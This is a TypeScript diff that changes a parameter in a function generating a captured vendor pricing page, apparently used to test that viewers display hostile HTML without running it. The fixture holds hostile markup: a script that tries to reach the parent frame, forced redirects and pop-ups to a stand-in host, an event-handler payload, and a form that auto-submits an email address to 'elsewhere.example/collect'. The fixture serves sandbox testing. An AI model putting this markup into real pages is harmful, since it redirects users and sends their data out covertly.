@@ -79,14 +79,14 @@ const drawPricing = (vendor: Vendor, banner?: string) =>
   });
 
 /** A captured page as it came, with what hostile pages try. Viewers must show it and run none of it. */
-export const captureHtml = (vendor: Vendor, note: string) => `<!doctype html>
+export const captureHtml = (vendor: Vendor, isReady: boolean) => `<!doctype html>
 <html lang="en"><head><title>${vendor.name} pricing</title>
 <script>document.title = 'script ran'; try { parent.document.body.textContent = 'script reached the parent'; } catch {}</script>
 <meta http-equiv="refresh" content="1;url=https://elsewhere.example/">
 <style>body { font: 16px/1.5 sans-serif; margin: 2rem; } table { border-collapse: collapse } td, th { border: 1px solid #ccc; padding: .3rem .8rem }</style></head>
 <body onload="window.open('https://elsewhere.example/')">
-<h1>${vendor.name} pricing</h1><p>${note}</p>
-<table><tr><th>Plan</th><th>Price</th></tr>${vendor.tiers.map(([name, price]) => `<tr><td>${name}</td><td>$${price}</td></tr>`).join('')}</table>
+<h1>${vendor.name} pricing</h1><p>${isReady ? 'Simple plans, cancel any time.' : 'Loading plans…'}</p>
+<table><tr><th>Plan</th><th>Price</th></tr>${(isReady ? vendor.tiers : []).map(([name, price]) => `<tr><td>${name}</td><td>$${price}</td></tr>`).join('')}</table>
 <img src="https://elsewhere.example/pixel.png" alt="" onerror="document.title = 'handler ran'">
 <form action="https://elsewhere.example/collect" method="post"><input name="email" value="someone@mailbox.example"><button>Subscribe</button></form>
 <script>document.forms[0].submit()</script><a href="javascript:document.title='link ran'">More</a>
@@ -135,7 +135,7 @@ function visitVendor(scout: Performer, vendor: Vendor, shared: Shared, needsBrow
   );
   shared.stage
     .artifact('html', `page-${vendor.host}`, `pages/${vendor.host}/pricing.html`)
-    .save(scout, 'init', captureHtml(vendor, needsBrowser ? 'Loading plans…' : 'Simple plans, cancel any time.'), page.id);
+    .save(scout, 'init', captureHtml(vendor, !needsBrowser), page.id);
   if (needsBrowser) {
     scout.think(`The pricing table of ${vendor.name} is filled in by a script. A browser will read it.`);
     const browser = scout.spawn(`Browser at ${vendor.host}`, 'browser');
